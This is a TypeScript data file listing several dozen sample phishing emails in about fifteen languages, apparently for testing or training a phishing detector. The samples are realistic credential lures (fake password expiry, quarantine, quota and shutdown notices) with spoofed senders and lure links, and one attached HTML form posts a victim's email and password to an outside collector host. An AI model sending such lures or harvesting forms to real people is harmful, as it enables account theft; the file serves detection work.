/** A sixth collection, mostly sent through stolen mailboxes that pass every check, in fifteen languages. */
import type { Sketch } from './mails.ts'

export const SIXTH_TRICKS: readonly Sketch[] = [
  {
    id: 'a-en4',
    from: 'jinqiao.example <admin@lakeside-dentalcare.example>',
    subject: 'Password for wang@jinqiao.example expire today',
    html: '<p>Dear wang,</p><p>The password to your mailbox wang@jinqiao.example expires today 11/19/2026.</p><p>Use the button below to continue with the same one.</p><p><a href="https://ipfs.io/ipfs/bafybeid3/#wang@jinqiao.example">Keep Same Password</a></p><p>jinqiao.example Support</p>',
  },
  {
    id: 'a-en5',
    from: 'Mail Delivery Subsystem <postmaster@jinqiao.example>',
    subject: 'Delivery Status Notification (Delay)',
    returnPath: 'www-data@vps7712.contabo-host.example',
    checks: 'spf=fail smtp.mailfrom=vps7712.contabo-host.example; dmarc=fail header.from=jinqiao.example',
    html: '<p>11 new emails are being kept at our relay because of a time-out with your mail client.</p><p><a href="https://relay-centre.web.app/?id=d2FuZ0BqaW5xaWFvLmV4YW1wbGU=">Move emails to Inbox</a></p>',
  },
  {
    id: 'a-en10',
    from: 'Server Admin <info@ilcasale-agriturismo.example>',
    subject: 'Termination of your e-mail',
    checks:
      'spf=pass smtp.mailfrom=ilcasale-agriturismo.example; dkim=pass header.d=ilcasale-agriturismo.example; dmarc=pass header.from=ilcasale-agriturismo.example',
    text: 'Hello wang@jinqiao.example,\n\nWe received your instruction to shut down your e-mail. It is now in process and will be done in 6 hours.\nIf you did not ask for this, cancel here: https://ilcasale-agriturismo.example/wp-includes/x/?m=wang@jinqiao.example\n\nServer Admin',
  },
  {
    id: 'a-en16',
    from: '"no-reply@outlook.com" <billing@sunfarms-kenya.example>',
    subject: 'Notice: mailbox licence lapses',
    checks:
      'spf=pass smtp.mailfrom=sunfarms-kenya.example; dkim=pass header.d=sunfarms-kenya.example; dmarc=pass header.from=sunfarms-kenya.example',
    html: '<p>Your mailbox licence lapses on 20 November. Re-subscribe at no cost to avoid interruption.</p><p><a href="https://sunfarms-kenya.example/owa/">Re-subscribe</a></p>',
  },
  {
    id: 'a-zh2',
    from: 'mail.jinqiao.example <service@kunming-tea.example>',
    subject: '对不起，您的电子邮件将被终止！',
    checks:
      'spf=pass smtp.mailfrom=kunming-tea.example; dkim=pass header.d=kunming-tea.example; dmarc=pass header.from=kunming-tea.example',
    html: '<p>系统错误终止代码: 501</p><p>亲爱的 wang，由于我们的系统升级，您的ID将停止接收消息。您必须验证您的电子邮件地址信息，以避免帐户终止。</p><p><a href="http://www.tdprod.example/snco/Counter/?email=wang@jinqiao.example">立即验证</a></p><p>注意：您的电子邮件地址信息已过时。</p>',
  },
  {
    id: 'a-zh4',
    from: '系统退信 <postmaster@jinqiao.example>',
    subject: '系统退信：邮件无法投递',
    returnPath: 'nobody@hz-shuichan.example',
    checks: 'spf=fail smtp.mailfrom=hz-shuichan.example; dmarc=fail header.from=jinqiao.example',
    html: '<p>您发送的邮件因收发权限异常被退回，共4封邮件未能送达。</p><p><a href="http://hz-shuichan.example/mx/?u=wang@jinqiao.example">查看退信并恢复权限</a></p>',
  },
  {
    id: 'a-zh9',
    from: 'OA办公 <oa@changan-peixun.example>',
    subject: '密码到期提示',
    checks:
      'spf=pass smtp.mailfrom=changan-peixun.example; dkim=pass header.d=changan-peixun.example; dmarc=pass header.from=changan-peixun.example',
    html: '<p>尊敬的用户，您邮箱的密码今日到期，为不影响收发，请选择继续沿用原密码。</p><p><a href="http://oa-mima.changan-peixun.example/k">沿用原密码</a></p>',
  },
  {
    id: 'a-zh10',
    from: '网络安全部 <wlaq@tianjin-wuye.example>',
    subject: '邮件账户被限制发信',
    checks:
      'spf=pass smtp.mailfrom=tianjin-wuye.example; dkim=pass header.d=tianjin-wuye.example; dmarc=pass header.from=tianjin-wuye.example',
    text: '您好：\n系统监测到您的账户存在群发行为，发信功能已限制。解除限制请打开附件登记。\n网络安全部',
    attached: [
      [
        '解除限制.html',
        'text/html',
        '<html><body><form action="https://api.telegrambot-relay.example/s.php" method="post"><input name="e" value="wang@jinqiao.example"><input type="password" name="p"><button>Sign in</button></form></body></html>',
      ],
    ],
  },
  {
    id: 'a-ja2',
    from: 'jinqiao.example <mailer-daemon@fheuoafeao.example>',
    subject: 'サービス仕様変更の知らせとご対応のお願い',
    checks:
      'spf=pass smtp.mailfrom=fheuoafeao.example; dkim=pass header.d=fheuoafeao.example; dmarc=pass header.from=fheuoafeao.example',
    text: '平素より【jinqiao.example】をご利用いただき、誠にありがとうございます。\nこのたび、当サービスの一部仕様変更に伴い、設定を更新いただくことが必要となりました。お手数おかけいたしますが、以下のリンクより、最新の設定内容へのご対応をお願いいたします。\nhttps://fheuoafeao.example/set?u=wang@jinqiao.example',
  },
  {
    id: 'a-ja5',
    from: '情報システム課 <admin@hotel-kusatsu.example>',
    subject: '【至急】パスワード変更のお願い',
    checks:
      'spf=pass smtp.mailfrom=hotel-kusatsu.example; dkim=pass header.d=hotel-kusatsu.example; dmarc=pass header.from=hotel-kusatsu.example',
    html: '<p>お使いのパスワードは本日をもって失効いたします。続けて利用される方は下記よりお手続きください。</p><p><a href="https://hotel-kusatsu.example/css/pw.html">現在のパスワードを使う</a></p>',
  },
  {
    id: 'a-de6',
    from: 'Exchange Quarantäne <exq@yogahaus-bonn.example>',
    subject: 'Quarantänebericht für wang@jinqiao.example',
    checks:
      'spf=pass smtp.mailfrom=yogahaus-bonn.example; dkim=pass header.d=yogahaus-bonn.example; dmarc=pass header.from=yogahaus-bonn.example',
    html: '<p>2 Nachrichten wurden zurückbehalten.</p><p>rechnung@orion.example: Mahnung</p><p><a href="https://yogahaus.vercel.app/q">Alle zulassen</a></p>',
  },
  {
    id: 'a-de7',
    from: 'Systemverwaltung <sys@blumen-huber.example>',
    subject: 'Umstellung auf die neue Webmail-Oberfläche',
    checks:
      'spf=pass smtp.mailfrom=blumen-huber.example; dkim=pass header.d=blumen-huber.example; dmarc=pass header.from=blumen-huber.example',
    text: 'Sehr geehrte Nutzerin, sehr geehrter Nutzer,\n\nam 21.11. wird die alte Oberfläche abgeschaltet. Melden Sie sich bis dahin unter http://blumen-huber.example/owa/ mit Ihren Zugangsdaten an.\n\nSystemverwaltung',
  },
  {
    id: 'a-fr4',
    from: 'Mail Delivery System <daemon@gites-ardeche.example>',
    subject: 'Échec de remise : votre message',
    returnPath: '',
    html: '<p>Le message adressé à achats@orion.example n\'a pas été remis, votre certificat de messagerie étant périmé.</p><p><a href="https://gites-ardeche.example/cert">Renouveler le certificat</a></p>',
  },
  {
    id: 'a-fr5',
    from: 'Zimbra <zimbra@marionnettes-lyon.example>',
    subject: 'Désactivation imminente',
    checks:
      'spf=pass smtp.mailfrom=marionnettes-lyon.example; dkim=pass header.d=marionnettes-lyon.example; dmarc=pass header.from=marionnettes-lyon.example',
    text: "Cher utilisateur,\n\nNous fermons les anciennes versions de Zimbra. Pour ne pas perdre vos données, mettez votre compte à niveau : http://zimbra-fr.jimdosite.com\n\nL'équipe technique",
  },
  {
    id: 'a-es3',
    from: 'Correo Seguro <cs@dulces-paco.example>',
    subject: '5 mensajes retenidos en el servidor',
    checks:
      'spf=pass smtp.mailfrom=dulces-paco.example; dkim=pass header.d=dulces-paco.example; dmarc=pass header.from=dulces-paco.example',
    html: '<p>Por un fallo del sistema, 5 mensajes no llegaron a su bandeja.</p><p><a href="https://dulces-mx.netlify.app/">Recibir mensajes</a></p>',
  },
  {
    id: 'a-ru3',
    from: 'Mail.Ru Поддержка <support@avto-razbor.example>',
    subject: 'Ящик будет заблокирован',
    checks:
      'spf=pass smtp.mailfrom=avto-razbor.example; dkim=pass header.d=avto-razbor.example; dmarc=pass header.from=avto-razbor.example',
    html: '<p>Заканчивается место. Расширьте объём бесплатно, чтобы не потерять письма.</p><p><a href="https://avto-razbor.example/m">Расширить</a></p>',
  },
  {
    id: 'a-it2',
    from: 'Aruba <comunicazioni@studio-neri.example>',
    subject: 'Messaggi non recapitati (3)',
    checks:
      'spf=pass smtp.mailfrom=studio-neri.example; dkim=pass header.d=studio-neri.example; dmarc=pass header.from=studio-neri.example',
    html: '<p>3 messaggi sono fermi sul server.</p><p><a href="https://studio-neri.example/wm">Scarica i messaggi</a></p>',
  },
  {
    id: 'a-pl1',
    from: 'Administrator poczty <biuro@kwiaty-ola.example>',
    subject: 'Twoja skrzynka jest prawie pełna',
    checks:
      'spf=pass smtp.mailfrom=kwiaty-ola.example; dkim=pass header.d=kwiaty-ola.example; dmarc=pass header.from=kwiaty-ola.example',
    html: '<p>Wykorzystano 98% miejsca. Zwiększ limit, aby nie stracić wiadomości.</p><p><a href="https://kwiaty-ola.example/q/">Zwiększ limit</a></p>',
  },
  {
    id: 'a-tr1',
    from: 'Posta Yöneticisi <info@kebap-evi.example>',
    subject: 'Bekleyen 4 iletiniz var',
    checks:
      'spf=pass smtp.mailfrom=kebap-evi.example; dkim=pass header.d=kebap-evi.example; dmarc=pass header.from=kebap-evi.example',
    html: '<p>Kutunuz dolduğu için 4 ileti teslim edilemedi.</p><p><a href="https://kebap-evi.example/roundcube/">İletileri al</a></p>',
  },
  {
    id: 'a-vi1',
    from: 'Quản trị thư <info@banhmi-saigon.example>',
    subject: 'Hộp thư của bạn sắp đầy',
    checks:
      'spf=pass smtp.mailfrom=banhmi-saigon.example; dkim=pass header.d=banhmi-saigon.example; dmarc=pass header.from=banhmi-saigon.example',
    html: '<p>Hộp thư wang@jinqiao.example đã dùng 96%. Thư mới sẽ bị từ chối.</p><p><a href="https://banhmi-mail.web.app/">Nâng cấp dung lượng</a></p>',
  },
  {
    id: 'a-ar1',
    from: 'مسؤول البريد <info@cafe-layl.example>',
    subject: 'لديك 5 رسائل معلقة',
    checks:
      'spf=pass smtp.mailfrom=cafe-layl.example; dkim=pass header.d=cafe-layl.example; dmarc=pass header.from=cafe-layl.example',
    html: '<p>لم يتم تسليم 5 رسائل إلى صندوق الوارد بسبب خطأ في الخادم.</p><p><a href="https://layl-mail.pages.dev/?d2FuZ0BqaW5xaWFvLmV4YW1wbGU=">استلام الرسائل</a></p>',
  },
  {
    id: 'b-en4',
    from: 'jinqiao.example Portal <portal@gulfcoast-roofing.example>',
    subject: "wang, 9 messages couldn't sync",
    checks:
      'spf=pass smtp.mailfrom=gulfcoast-roofing.example; dkim=pass header.d=gulfcoast-roofing.example; dmarc=pass header.from=gulfcoast-roofing.example',
    html: '<p>Since 18 Nov your device shows fewer messages than the server. Nine messages are affected.</p><table><tr><td style="background:#0067b8"><a href="https://gcr-sync.workers.dev/?u=d2FuZ0BqaW5xaWFvLmV4YW1wbGU=" style="color:#fff">Sync all</a></td></tr></table>',
  },
  {
    id: 'b-en6',
    from: 'Postmaster <postmaster@jinqiao.example>',
    subject: 'Mail quarantined by content filter',
    returnPath: 'apache@web22.shared-hosting-bg.example',
    checks: 'spf=fail smtp.mailfrom=web22.shared-hosting-bg.example; dmarc=fail header.from=jinqiao.example',
    html: '<p>3 e-mails addressed to you were put aside by the content filter.</p><p><a href="https://web22.shared-hosting-bg.example/~x/show">Show e-mails</a></p>',
  },
  {
    id: 'b-en7',
    from: 'Email Administrator <emad@cobalt-fitness.example>',
    subject: 'You are sending too much: outgoing mail disabled',
    checks:
      'spf=pass smtp.mailfrom=cobalt-fitness.example; dkim=pass header.d=cobalt-fitness.example; dmarc=pass header.from=cobalt-fitness.example',
    html: '<p>Outgoing mail of wang@jinqiao.example is disabled because of 214 messages per hour. Prove that you are the owner to lift the block.</p><table><tr><td style="background:#0067b8"><a href="http://45.133.1.90/unblock" style="color:#fff">Lift the block</a></td></tr></table>',
  },
  {
    id: 'b-en14',
    from: 'Microsoft account team <security@harvest-bakery.example>',
    subject: 'Unverified: message to procurement held',
    checks:
      'spf=pass smtp.mailfrom=harvest-bakery.example; dkim=pass header.d=harvest-bakery.example; dmarc=pass header.from=harvest-bakery.example',
    html: '<p>Your message to procurement@silverline.example is on hold until you prove who you are.</p><table><tr><td style="background:#0067b8"><a href="https://ms-hold.harvest-bakery.example/" style="color:#fff">Verify and send</a></td></tr></table>',
  },
  {
    id: 'b-zh5',
    from: '安全中心 <safe@dongguan-moju.example>',
    subject: '您的邮箱在境外登录',
    checks:
      'spf=pass smtp.mailfrom=dongguan-moju.example; dkim=pass header.d=dongguan-moju.example; dmarc=pass header.from=dongguan-moju.example',
    html: '<p>检测到 wang@jinqiao.example 于越南登录并群发广告，若非本人请立刻冻结并重设口令。</p><p><a href="https://dongguan-moju.example/safe/">不是我</a></p>',
  },
  {
    id: 'b-zh8',
    from: '反垃圾网关 <gw@suzhou-huagong.example>',
    subject: '拦截报告：4封邮件',
    checks:
      'spf=pass smtp.mailfrom=suzhou-huagong.example; dkim=pass header.d=suzhou-huagong.example; dmarc=pass header.from=suzhou-huagong.example',
    html: '<table><tr><td>报价单</td></tr><tr><td>付款水单</td></tr></table><p><a href="https://suzhou-gw.vercel.app/?u=wang@jinqiao.example">放行全部</a></p>',
  },
  {
    id: 'b-tw2',
    from: '郵件中心 <mc@tainan-food.example>',
    subject: '寄送失敗：需要重新認證',
    checks:
      'spf=pass smtp.mailfrom=tainan-food.example; dkim=pass header.d=tainan-food.example; dmarc=pass header.from=tainan-food.example',
    html: '<p>您寄給 sales@dongfang.example 的信件沒有送出。</p><p><a href="https://tainan-mail.web.app/">重新認證並寄出</a></p>',
  },
  {
    id: 'b-ja4',
    from: 'メールセキュリティ <sec@hakata-ramen.example>',
    subject: '受信拒否メール 2 件',
    checks:
      'spf=pass smtp.mailfrom=hakata-ramen.example; dkim=pass header.d=hakata-ramen.example; dmarc=pass header.from=hakata-ramen.example',
    html: '<p>お客様宛の2件を一時的に止めています。</p><p><a href="https://hakata-ms.azurewebsites.net/">受信を許可</a></p>',
  },
  {
    id: 'b-ja5',
    from: 'Webメール <wm@nikko-ryokan.example>',
    subject: 'ストレージ残量 1%',
    checks:
      'spf=pass smtp.mailfrom=nikko-ryokan.example; dkim=pass header.d=nikko-ryokan.example; dmarc=pass header.from=nikko-ryokan.example',
    html: '<p>空き容量がなくなると新着メールは破棄されます。</p><p><a href="https://nikko-wm.pages.dev/">容量を追加（無料）</a></p>',
  },
  {
    id: 'b-de4',
    from: 'E-Mail-Sicherheit <sicher@eiscafe-roma.example>',
    subject: 'Auffällige Anmeldung',
    checks:
      'spf=pass smtp.mailfrom=eiscafe-roma.example; dkim=pass header.d=eiscafe-roma.example; dmarc=pass header.from=eiscafe-roma.example',
    html: '<p>Jemand aus Brasilien hat sich in Ihrem Postfach angemeldet.</p><p><a href="https://eiscafe-roma.example/s">Das war ich nicht</a></p>',
  },
  {
    id: 'b-de5',
    from: 'Postfach-Verwaltung <pv@segel-club.example>',
    subject: 'Postfach wird heute gelöscht',
    checks:
      'spf=pass smtp.mailfrom=segel-club.example; dkim=pass header.d=segel-club.example; dmarc=pass header.from=segel-club.example',
    html: '<p>Ihre Kündigung für wang@jinqiao.example ist eingegangen.</p><p><a href="https://segel-club.example/k">Kündigung zurückziehen</a></p>',
  },
  {
    id: 'b-fr1',
    from: 'Administrateur <adm@fleurs-annie.example>',
    subject: 'Courrier non délivré',
    checks:
      'spf=pass smtp.mailfrom=fleurs-annie.example; dkim=pass header.d=fleurs-annie.example; dmarc=pass header.from=fleurs-annie.example',
    html: '<p>3 courriers sont restés sur le serveur.</p><p><a href="https://fleurs-annie.example/wm/?d2FuZ0BqaW5xaWFvLmV4YW1wbGU=">Les recevoir</a></p>',
  },
  {
    id: 'b-es2',
    from: 'Webmail <wm@taller-cruz.example>',
    subject: 'Tu cuenta será cerrada',
    checks:
      'spf=pass smtp.mailfrom=taller-cruz.example; dkim=pass header.d=taller-cruz.example; dmarc=pass header.from=taller-cruz.example',
    html: '<p>Detectamos inactividad. Para evitar el cierre confirma que sigues usando wang@jinqiao.example.</p><p><a href="https://taller-cruz.example/w">Seguir usando</a></p>',
  },
  {
    id: 'b-ru1',
    from: 'Системный администратор <sa@kafe-uyut.example>',
    subject: 'Пароль почты устарел',
    checks:
      'spf=pass smtp.mailfrom=kafe-uyut.example; dkim=pass header.d=kafe-uyut.example; dmarc=pass header.from=kafe-uyut.example',
    html: '<p>Смените пароль до 18:00, иначе доступ к почте закроется.</p><p><a href="https://kafe-uyut.example/p">Сменить</a></p>',
  },
  {
    id: 'b-ru3',
    from: 'jinqiao.example <noreply@zoo-mir.example>',
    subject: 'Карантин: 4 письма',
    checks:
      'spf=pass smtp.mailfrom=zoo-mir.example; dkim=pass header.d=zoo-mir.example; dmarc=pass header.from=zoo-mir.example',
    html: '<p><a href="https://zoo-mir.pages.dev/#d2FuZ0BqaW5xaWFvLmV4YW1wbGU=">Посмотреть письма</a></p>',
  },
  {
    id: 'b-ko1',
    from: '전산팀 <it@jeju-orange.example>',
    subject: '메일 서버 교체 안내',
    checks:
      'spf=pass smtp.mailfrom=jeju-orange.example; dkim=pass header.d=jeju-orange.example; dmarc=pass header.from=jeju-orange.example',
    html: '<p>새 서버로 옮기려면 오늘까지 계정을 인증해야 합니다.</p><p><a href="https://jeju-orange.example/m">계정 인증</a></p>',
  },
  {
    id: 'b-nl1',
    from: 'IT-helpdesk <it@bloemen-anna.example>',
    subject: 'Uw wachtwoord verloopt vandaag',
    checks:
      'spf=pass smtp.mailfrom=bloemen-anna.example; dkim=pass header.d=bloemen-anna.example; dmarc=pass header.from=bloemen-anna.example',
    html: '<p><a href="https://anna-ww.pages.dev">Wachtwoord behouden</a></p>',
  },
  {
    id: 'b-tr1',
    from: 'Sistem Yöneticisi <s@cicek-dunyasi.example>',
    subject: 'E-posta hesabınız kapatılacak',
    checks:
      'spf=pass smtp.mailfrom=cicek-dunyasi.example; dkim=pass header.d=cicek-dunyasi.example; dmarc=pass header.from=cicek-dunyasi.example',
    html: '<p><a href="https://cicek.web.app">Hesabı doğrula</a></p>',
  },
  {
    id: 'b-vi1',
    from: 'Hệ thống mail <m@hoa-tuoi.example>',
    subject: 'Bạn có 4 thư bị giữ lại',
    checks:
      'spf=pass smtp.mailfrom=hoa-tuoi.example; dkim=pass header.d=hoa-tuoi.example; dmarc=pass header.from=hoa-tuoi.example',
    html: '<p><a href="https://hoa-tuoi.pages.dev/#d2FuZ0BqaW5xaWFvLmV4YW1wbGU=">Nhận thư</a></p>',
  },
  {
    id: 'b-ar1',
    from: 'الدعم الفني <s@warda-flowers.example>',
    subject: 'كلمة مرور بريدك تنتهي اليوم',
    checks:
      'spf=pass smtp.mailfrom=warda-flowers.example; dkim=pass header.d=warda-flowers.example; dmarc=pass header.from=warda-flowers.example',
    html: '<p><a href="https://warda.web.app/#d2FuZ0BqaW5xaWFvLmV4YW1wbGU=">الاحتفاظ بكلمة المرور</a></p>',
  },
]
